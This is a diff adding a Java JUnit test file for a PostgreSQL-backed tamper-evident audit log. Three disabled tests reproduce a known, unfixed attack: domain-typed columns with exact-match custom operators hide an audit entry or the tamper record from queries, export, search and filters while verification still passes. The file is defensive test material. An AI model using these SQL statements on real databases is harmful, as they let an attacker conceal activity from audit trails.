@@ -1,0 +1,196 @@
+package dev.secureyeoman.audit;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.secureyeoman.core.SecretBytes;
+import dev.secureyeoman.testkit.PostgresDatabase;
+import dev.secureyeoman.testkit.PostgresExtension;
+import java.io.StringWriter;
+import java.sql.Connection;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.util.List;
+import org.junit.jupiter.api.Disabled;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.postgresql.ds.PGSimpleDataSource;
+
+/**
+ * attack18e: an outside attacker holding the nodes' (non-superuser, table-owning) PostgreSQL role changes name
+ * resolution without touching search_path: domains on the store's columns, with operators on the domain type that
+ * match exactly and so beat the built-in ones even with {@code pg_catalog} first on the pinned path.
+ */
+@ExtendWith(PostgresExtension.class)
+class Attack18eNameResolutionTest {
+
+  private static final byte[] KEY = new byte[32];
+
+  static {
+    for (int i = 0; i < KEY.length; i++) {
+      KEY[i] = (byte) (i * 7 + 3);
+    }
+  }
+
+  private static PGSimpleDataSource ds(PostgresDatabase db) {
+    PGSimpleDataSource ds = new PGSimpleDataSource();
+    ds.setUrl(db.jdbcUrl());
+    ds.setUser(db.user());
+    ds.setPassword(db.password());
+    return ds;
+  }
+
+  private static AuditStore open(PGSimpleDataSource ds) throws AuditException {
+    return PostgresAuditStore.builder(ds).macKey(SecretBytes.copyOf(KEY)).open();
+  }
+
+  private static void sql(PGSimpleDataSource ds, String... statements) throws SQLException {
+    try (Connection c = ds.getConnection();
+        Statement st = c.createStatement()) {
+      for (String s : statements) {
+        st.execute(s);
+      }
+    }
+  }
+
+  private static void appendSeven(AuditStore store) throws AuditException {
+    for (int i = 1; i <= 7; i++) {
+      String actor = i == 4 ? "mallory" : "alice";
+      store.append(AuditEvent.builder("user.login").actor(actor).message("login " + i).build());
+    }
+  }
+
+  private static List<Long> seqs(List<AuditEntry> l) {
+    return l.stream().map(AuditEntry::seq).toList();
+  }
+
+  /**
+   * The seq column becomes a domain over bigint (information_schema still reports {@code bigint}); an operator
+   * {@code >(dseq, bigint)} in the store's schema is an exact match for {@code seq > ?} and hides seq 4 from every
+   * read that pages with it, while the verifying full scan (no WHERE) still sees all seven.
+   */
+  @Test
+  @Disabled("attack18e: works, not fixed — domain on seq + >(domain,bigint) in public: verify OK 7 while query hides seq 4")
+  void domainOnSeq_exactMatchOperator_verifyOkWhileQueryHidesAnEntry(PostgresDatabase db) throws Exception {
+    PGSimpleDataSource ds = ds(db);
+    try (AuditStore store = open(ds)) {
+      appendSeven(store);
+    }
+    sql(
+        ds,
+        "CREATE DOMAIN public.dseq AS bigint",
+        "ALTER TABLE public.audit_log ALTER COLUMN seq TYPE public.dseq",
+        "CREATE FUNCTION public.evil_gt(a public.dseq, b bigint) RETURNS boolean LANGUAGE sql IMMUTABLE"
+            + " SET search_path = pg_catalog AS"
+            + " $$ SELECT (a::bigint OPERATOR(pg_catalog.>) b) AND (a::bigint OPERATOR(pg_catalog.<>) 4) $$",
+        "CREATE OPERATOR public.> (LEFTARG = public.dseq, RIGHTARG = bigint, FUNCTION = public.evil_gt)");
+    try (AuditStore store = open(ds)) {
+      VerificationResult v = store.verify();
+      List<AuditEntry> all = store.query(AuditQuery.builder().build());
+      StringWriter out = new StringWriter();
+      long exported = store.exportJsonl(out);
+      System.out.println("attack18e domainOnSeq: verify=" + v.summary() + " query=" + seqs(all) + " exported="
+          + exported);
+      // the claim: a valid verification implies every entry is visible to query and export
+      assertTrue(
+          !v.valid() || (seqs(all).contains(4L) && exported == 7),
+          "verify " + v.summary() + " while query shows " + seqs(all) + " and export " + exported);
+    }
+  }
+
+  /**
+   * The audit_meta.name column becomes a domain over text; {@code =(dname, text)} in the store's schema is an exact
+   * match for {@code name = CAST(? AS text)} and answers false for 'tamper': the fail-closed record is written but
+   * never read back, so appends go on after a failed verification.
+   */
+  @Test
+  @Disabled("attack18e: works, not fixed — domain on audit_meta.name + =(domain,text) hides the tamper row; appends go on")
+  void domainOnMetaName_exactMatchOperator_hidesTheTamperRecord(PostgresDatabase db) throws Exception {
+    PGSimpleDataSource ds = ds(db);
+    try (AuditStore store = open(ds)) {
+      appendSeven(store);
+    }
+    sql(
+        ds,
+        "CREATE DOMAIN public.dname AS text",
+        "ALTER TABLE public.audit_meta ALTER COLUMN name TYPE public.dname",
+        "CREATE FUNCTION public.evil_eq(a public.dname, b text) RETURNS boolean LANGUAGE sql IMMUTABLE"
+            + " SET search_path = pg_catalog AS"
+            + " $$ SELECT (a::text OPERATOR(pg_catalog.=) b) AND (b OPERATOR(pg_catalog.<>) 'tamper') $$",
+        "CREATE OPERATOR public.= (LEFTARG = public.dname, RIGHTARG = text, FUNCTION = public.evil_eq)",
+        // tamper with entry 4 so verification fails
+        "UPDATE public.audit_log SET message = 'edited' WHERE seq = 4");
+    try (AuditStore store = open(ds)) {
+      VerificationResult v = store.verify();
+      assertFalse(v.valid(), v.summary());
+      boolean detected = store.tamperingDetected().isPresent();
+      boolean appended;
+      try {
+        store.append(AuditEvent.builder("after.tamper").actor("mallory").build());
+        appended = true;
+      } catch (AuditException e) {
+        appended = false;
+      }
+      System.out.println("attack18e domainOnMetaName: verify=" + v.summary() + " tamperingDetected=" + detected
+          + " appendAfterFailedVerify=" + appended);
+      assertTrue(detected, "tamper record hidden after " + v.summary());
+      assertFalse(appended, "append accepted after a failed verification");
+    }
+  }
+
+  /**
+   * The metadata column becomes a domain over text; {@code ||(text, dmeta)} in the store's schema is an exact match for
+   * the last concatenation of the search tsvector (the GIN index is rebuilt from its re-parsed definition and uses it
+   * too) and blanks mallory's document; {@code =(dactor, text)} does the same for the actor filter.
+   */
+  @Test
+  @Disabled("attack18e: works, not fixed — domains on metadata/actor + ||(text,domain), =(domain,text): search and actor filter hide mallory while verify OK")
+  void domainOnTextColumns_exactMatchOperators_searchAndFilterHideAnEntry(PostgresDatabase db) throws Exception {
+    PGSimpleDataSource ds = ds(db);
+    try (AuditStore store = open(ds)) {
+      appendSeven(store);
+      assertEquals(7, store.search("login", 100).size());
+    }
+    sql(
+        ds,
+        "CREATE DOMAIN public.dmeta AS text",
+        "CREATE FUNCTION public.evil_cat(a text, b public.dmeta) RETURNS text LANGUAGE sql IMMUTABLE"
+            + " SET search_path = pg_catalog AS"
+            + " $$ SELECT CASE WHEN pg_catalog.strpos(a, 'mallory') OPERATOR(pg_catalog.>) 0 THEN ''"
+            + " ELSE a OPERATOR(pg_catalog.||) b::text END $$",
+        "CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = public.dmeta, FUNCTION = public.evil_cat)",
+        "SET search_path = public, pg_catalog",
+        "ALTER TABLE public.audit_log ALTER COLUMN metadata TYPE public.dmeta",
+        "CREATE DOMAIN public.dactor AS text",
+        "CREATE FUNCTION public.evil_eq2(a public.dactor, b text) RETURNS boolean LANGUAGE sql IMMUTABLE"
+            + " SET search_path = pg_catalog AS"
+            + " $$ SELECT (a::text OPERATOR(pg_catalog.=) b) AND (b OPERATOR(pg_catalog.<>) 'mallory') $$",
+        "CREATE OPERATOR public.= (LEFTARG = public.dactor, RIGHTARG = text, FUNCTION = public.evil_eq2)",
+        "ALTER TABLE public.audit_log ALTER COLUMN actor TYPE public.dactor");
+    try (AuditStore store = open(ds)) {
+      VerificationResult v = store.verify();
+      List<Long> found = seqs(store.search("login", 100));
+      List<Long> byActor = seqs(store.query(AuditQuery.builder().actor("mallory").build()));
+      System.out.println("attack18e domainOnTextColumns: verify=" + v.summary() + " search(login)=" + found
+          + " query(actor=mallory)=" + byActor);
+      assertTrue(
+          !v.valid() || (found.contains(4L) && byActor.equals(List.of(4L))),
+          "verify " + v.summary() + " while search shows " + found + " and actor filter " + byActor);
+    }
+  }
+
+  /** Legitimate path for the same fixture shapes: an untouched log verifies and every read sees all seven. */
+  @Test
+  void untouchedLog_verifiesAndEveryReadSeesAllEntries(PostgresDatabase db) throws Exception {
+    PGSimpleDataSource ds = ds(db);
+    try (AuditStore store = open(ds)) {
+      appendSeven(store);
+      VerificationResult v = store.verify();
+      assertTrue(v.valid(), v.summary());
+      assertEquals(List.of(1L, 2L, 3L, 4L, 5L, 6L, 7L), seqs(store.query(AuditQuery.builder().build())));
+      assertEquals(7, store.exportJsonl(new StringWriter()));
+      assertEquals(1, store.query(AuditQuery.builder().actor("mallory").build()).size());
+    }
+  }
+}
